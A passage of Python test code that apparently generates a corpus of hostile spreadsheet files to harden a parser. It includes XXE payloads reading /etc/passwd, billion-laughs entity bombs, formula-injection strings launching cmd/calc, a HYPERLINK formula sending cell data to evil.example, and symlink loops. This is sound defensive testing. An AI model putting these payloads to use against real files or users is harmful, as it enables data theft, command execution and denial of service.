                      '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                      f'<Relationship Id="rId1" Type="{_REL}/hyperlink" Target="http://example.com/" '
                      'TargetMode="External"/></Relationships>'})

    # --- unsafe XML ---
    xxe_sheet = sheet_xml([["&xxe;"]]).replace("&amp;xxe;", "&xxe;").replace(_DECL.strip(), "")
    write_xlsx(add("xxe_sheet.xlsx", "unsafe_xml", "external entity (file:///etc/passwd) in a sheet"),
               [("S", f'{_DECL.strip()}\n{_XXE}{xxe_sheet.split(chr(10), 1)[-1]}')])
    write_xlsx(add("xxe_shared_strings.xlsx", "unsafe_xml", "external entity in sharedStrings.xml"),
               [("S", f'{_DECL}<worksheet {_NS}><sheetData><row r="1"><c r="A1" t="s"><v>0</v></c></row>'
                 "</sheetData></worksheet>")],
               shared_strings=f'{_DECL}{_XXE}<sst {_NS} count="1" uniqueCount="1"><si><t>&xxe;</t></si></sst>')
    write_xlsx(add("billion_laughs.xlsx", "unsafe_xml", "nested entity expansion in sharedStrings.xml"),
               [("S", f'{_DECL}<worksheet {_NS}><sheetData><row r="1"><c r="A1" t="s"><v>0</v></c></row>'
                 "</sheetData></worksheet>")],
               shared_strings=f'{_DECL}{_LAUGHS}<sst {_NS} count="1" uniqueCount="1"><si><t>&lol9;</t></si></sst>')
    write_xlsx(add("xxe_workbook.xlsx", "unsafe_xml", "external entity in workbook.xml"),
               [("S", sheet_xml([["x"]]))],
               workbook_xml=f'{_DECL}{_XXE}<workbook {_NS} {_RNS}><sheets><sheet name="&xxe;" sheetId="1" '
                            'r:id="rId1"/></sheets></workbook>')
    write_xlsx(add("xxe_utf16.xlsx", "unsafe_xml", "a UTF-16 sheet with a DOCTYPE (byte scans miss it)"),
               [("S", ('<?xml version="1.0" encoding="UTF-16"?>\n' + _XXE + sheet_xml([["x"]], prolog=""))
                 .encode("utf-16"))])
    _ods(add("ods_laughs.ods", "unsafe_xml", "nested entity expansion in an ODS content.xml"),
         f'{_DECL}{_LAUGHS}{_ODS_HEAD}<table:table table:name="S"><table:table-row>'
         f'<table:table-cell office:value-type="string"><text:p>&lol9;</text:p></table:table-cell>'
         f"</table:table-row></table:table>{_ODS_TAIL}")

    # tag soup: an unbounded attribute scan restarted at every "<" would take hours here
    write_xlsx(add("tag_soup.xlsx", None, "150,000 '<c' without a '>' (calamine sees an empty sheet)",
                   tags={"tag_soup"}),
               [("S", f'<worksheet {_NS}><sheetData><row r="1">{"<c" * 150_000}</row></sheetData></worksheet>')])
    write_xlsx(add("endless_tag.xlsx", "corrupt", "a cell tag with 300 KB of attributes and no end"),
               [("S", f'<worksheet {_NS}><sheetData><row r="1"><c r="A1" {"x" * 300_000}</row></sheetData>'
                      "</worksheet>")])

    # --- odd but readable ---
    text_numbers = [[(f"{v:,.2f}" if isinstance(v, float) else v) for v in line] for line in FORM_ROWS]
    form_xlsx(add("numbers_as_text.xlsx", None, "every number cell holds text ('409.90', '1,000.00')", form=True),
              text_numbers)
    circular = [list(line) for line in FORM_ROWS]
    circular[5][2] = "\x00formula:C6+C7"  # C6 refers to itself through C6+...
    circular[6][2] = "\x00formula:C6-C8"
    circular[19][7] = "\x00formula:H20"
    write_xlsx(add("circular_formulas.xlsx", None, "formulas that refer to themselves, cached values 0",
                   tags={"formulas"}), [("自评表", sheet_xml(circular, FORM_MERGES))])
    control = [list(line) for line in FORM_ROWS]
    control[10][1] = "目标\x01\x02\x1b[31m红色\x07\x0b结束"
    control[10][5] = "完成_x0001__x001F_情况"
    write_xlsx(add("control_chars.xlsx", None,
                   "control characters (raw and _x0001_ escapes) in text cells", tags={"control_chars"}),
               [("自评表", sheet_xml(control, FORM_MERGES).replace("\x01", "").replace("\x02", "")
                 .replace("\x1b", "_x001B_").replace("\x07", "_x0007_").replace("\x0b", "_x000B_"))])
    long_text = [list(line) for line in FORM_ROWS]
    hanzi = [chr(c) for c in range(0x4E00, 0x9FA6)]
    long_text[10][1] = "".join(rng.choices(hanzi, k=35_000))  # past Excel's 32,767 per cell
    long_text[17][8] = "".join(rng.choices(hanzi, k=300_000))
    write_xlsx(add("very_long_strings.xlsx", None, "cells of 35,000 and 300,000 characters",
                   tags={"long_strings"}), [("自评表", sheet_xml(long_text, FORM_MERGES))])
    injection = [list(line) for line in FORM_ROWS]
    injection[2][1] = "=HYPERLINK(\"http://evil.example/\"&A1,\"点我\")"
    injection[3][1] = "+cmd|' /C calc'!A0"
    injection[3][6] = "@SUM(1+1)*cmd|' /C calc'!A0"
    injection[17][8] = "-2+3+cmd|' /C calc'!A0"
    injection[10][1] = "\t=1+1"
    injection[10][5] = "\r=1+1"
    form_xlsx(add("formula_injection.xlsx", None, "text cells that start with = + - @ tab CR", form=True,
                  injection=True), injection)
    write_xlsx(add("hidden_sheets.xlsx", None, "a visible form beside a hidden and a very hidden sheet",
                   form=True, tags={"hidden_sheets"}),
               [("自评表", sheet_xml(FORM_ROWS, FORM_MERGES)), ("_jixiao", sheet_xml([["version", "1"]])),
                ("secret", sheet_xml([["x"]]))], states=["visible", "hidden", "veryHidden"])
    write_xlsx(add("macro.xlsm", None, "a macro-enabled workbook: the macro is never run", form=True),
               [("自评表", sheet_xml(FORM_ROWS, FORM_MERGES))], extra={"xl/vbaProject.bin": _BINARY_PART})
    add("xlsx_named.xls", None, "an .xlsx saved with a .xls name", form=True).write_bytes(good_bytes)
    write_xlsx(add("empty_sheet.xlsx", None, "a workbook whose only sheet is empty"),
               [("Sheet1", f"{_DECL}<worksheet {_NS}><sheetData/></worksheet>")])
    stray_quote = form_text().replace("保障公务外出 准点率", '"保障公务外出 准点率')
    add("stray_quote.txt", None, "a PDF extract with an unbalanced opening quote", form=True).write_text(
        stray_quote, encoding="utf-8")

    # --- paths that are not files ---
    folder = add("a_folder.xlsx", "not_file", "a folder named like a workbook")
    folder.mkdir()
    loop = add("symlink_loop", "not_file", "a folder holding a symlink to itself and a self-link", folder=True)
    loop.mkdir()
    (loop / "again").symlink_to("..", target_is_directory=True)
    (loop / "self.xlsx").symlink_to("self.xlsx")
    (loop / "form.xlsx").write_bytes(good_bytes)
    add("self_link.xlsx", "not_file", "a symlink pointing at itself").symlink_to("self_link.xlsx")
    add("dangling_link.xlsx", "not_file", "a symlink to a missing file").symlink_to("nowhere/missing.xlsx")
    return cases


def _encrypt(plain: Path, out: Path) -> None:
    from msoffcrypto.format.ooxml import OOXMLFile

    with open(plain, "rb") as src, open(out, "wb") as dst:
        OOXMLFile(src).encrypt("secret", dst)


def _xls_rows(path: Path, n_rows: int) -> None:
    import xlwt

    book = xlwt.Workbook()
    ws = book.add_sheet("S")
    for r in range(n_rows):
        ws.row(r).set_cell_number(0, r)
    book.save(str(path))


def _xls_far_cell(path: Path) -> None:
    import xlwt

    book = xlwt.Workbook()
    ws = book.add_sheet("S")
    ws.write(0, 0, 1)
    ws.write(65535, 255, 1)
    book.save(str(path))


def _xls_merges(path: Path, n: int) -> None:
    import xlwt

    book = xlwt.Workbook()
    ws = book.add_sheet("S")
    for r in range(n):
        ws.write_merge(r, r, 0, 1, "x")
    book.save(str(path))


if __name__ == "__main__":  # write the corpus somewhere to look at it by hand
    import sys
    import tempfile

    target = Path(sys.argv[1]) if len(sys.argv) > 1 else Path(tempfile.mkdtemp(prefix="hostile-"))
    for case in make_corpus(target):
        print(f"{case.expect_kind or 'readable':16} {case.name!r:48} {case.description}")
    print(target)


def digests(root: Path) -> dict[str, str]:
    """SHA-256 of every regular file under root (links not followed): inputs must not change."""
    out = {}
    for folder, _, files in os.walk(root):
        for name in files:
            path = os.path.join(folder, name)
            if os.path.isfile(path) and not os.path.islink(path):
                with open(path, "rb") as fh:
                    out[path] = hashlib.sha256(fh.read()).hexdigest()
    return out
